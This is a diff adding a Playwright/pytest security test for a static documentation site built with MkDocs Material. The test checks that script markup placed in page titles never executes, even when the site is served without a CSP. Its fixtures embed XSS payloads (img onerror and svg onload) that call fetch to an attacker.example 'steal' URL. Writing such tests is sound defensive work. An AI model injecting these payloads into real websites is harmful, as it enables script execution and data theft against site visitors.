@@ -1,0 +1,97 @@
+"""Hostile text in a real browser, without the CSP: no content title ever runs as markup (Material's
+own scripts included), and the routine builder survives any address or stored routine.
+
+The site is served with no ``_headers`` (as GitHub Pages or a plain server would), so nothing but the
+pages themselves stops an injected script.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+import yaml
+from playwright.sync_api import TimeoutError as PlaywrightTimeout
+
+from .browser import serve
+from .conftest import BuiltSite, build_site, copy_project
+
+# Markup in a title long enough to be cut off in the sidebar, the header and the footer, where
+# Material shows the whole title on hover.
+PAYLOAD = ('<img src=x onerror="window.__injected=(window.__injected||0)+1;'
+           "fetch('https://attacker.example/steal')\">")
+HOSTILE_TITLE = f"Plank {PAYLOAD} with a long tail of words so that every navigation shows it cut off"
+# The same markup in a cause's title, as a second page that every method page links to.
+HOSTILE_CAUSE = f"Stress {PAYLOAD.replace('<img', '<svg onload=window.__injected=1 ')}"
+
+PAGES = ["methods/plank.html", "methods/bridge.html", "methods/index.html", "causes/stress.html"]
+
+
+def _set_title(path: Path, title: str) -> None:
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    data["title"] = title
+    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> BuiltSite:
+    root = tmp_path_factory.mktemp("hostile")
+    project = copy_project(root / "project")
+    _set_title(project / "content" / "methods" / "plank.yaml", HOSTILE_TITLE)
+    _set_title(project / "content" / "causes" / "stress.yaml", HOSTILE_CAUSE)
+    built = build_site(project, root / "site")
+    assert built.returncode == 0, built.log
+    return built
+
+
+def _hover_everything_that_shows_the_title(page) -> int:
+    """Hover every element that shows a hostile title; returns how many of them were cut off."""
+    cut_off = 0
+    for element in page.locator(".md-ellipsis, .md-nav__link, .md-header__topic").all():
+        text = element.text_content() or ""
+        if "<img" not in text and "<svg" not in text:
+            continue
+        if not element.is_visible():
+            continue
+        element.scroll_into_view_if_needed()
+        cut_off += page.evaluate("(e) => e.scrollWidth > e.clientWidth", element.element_handle())
+        try:
+            element.hover(timeout=1500)
+        except PlaywrightTimeout:  # covered by another element: the pointer goes there anyway
+            element.hover(force=True)
+        page.wait_for_timeout(350)  # Material shows its tooltip after a short delay
+        element.evaluate("(e) => (e.closest('a') || e).focus()")  # as a keyboard reader reaches it
+        page.wait_for_timeout(350)
+    return cut_off
+
+
+def test_markup_in_a_title_never_runs_without_the_csp(browser, hostile_site):
+    assert "_headers" not in PAGES
+    context = browser.new_context(viewport={"width": 1280, "height": 720})
+    page = context.new_page()
+    requests: list[str] = []
+    errors: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    cut_off = 0
+    try:
+        with serve(hostile_site.root) as base:  # no headers at all: no CSP
+            for path in PAGES:
+                page.goto(base + path, wait_until="load")
+                cut_off += _hover_everything_that_shows_the_title(page)
+                # Scrolled down, the header shows the page's title (Material's header topic).
+                page.mouse.wheel(0, 3000)
+                page.wait_for_timeout(400)
+                cut_off += _hover_everything_that_shows_the_title(page)
+                page.mouse.move(5, 5)
+                page.wait_for_timeout(300)
+                assert page.evaluate("window.__injected") is None, f"a script ran on {path}"
+                assert not page.locator(".md-tooltip img, .md-tooltip svg[onload]").count()
+            origin = "{0.scheme}://{0.netloc}".format(urlsplit(base))
+    finally:
+        context.close()
+    assert cut_off, "no title was cut off: the test did not reach Material's tooltips"
+    assert not errors, errors
+    leaked = [url for url in requests if not url.startswith(origin) or url.rstrip("/").endswith("/x")]
+    assert not leaked, leaked
